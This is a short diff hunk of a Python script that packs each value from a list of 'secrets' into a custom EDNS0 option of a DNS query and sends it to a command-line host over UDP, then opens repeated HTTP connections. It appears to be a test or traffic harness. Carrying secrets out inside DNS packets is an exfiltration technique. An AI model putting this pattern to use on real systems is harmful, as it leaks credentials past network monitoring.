@@ -44,8 +44,9 @@ for secret in json.loads(sys.argv[4]):
     option = struct.pack("!HH", 65001, len(secret)) + secret.encode()
     opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option
     query = b"\0\1\1\0" + struct.pack("!HHHH", 1, 0, 0, 1) + b"\4shop\7example\0\0\1\0\1" + opt
-    with socket.create_connection((sys.argv[2], 53), timeout=60) as s:
-        s.sendall(struct.pack("!H", len(query)) + query)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(60)
+        s.sendto(query, (sys.argv[2], 53))
         assert s.recv(512)
 for n in range(110):
     c = http.client.HTTPConnection(sys.argv[1], 80, timeout=60)
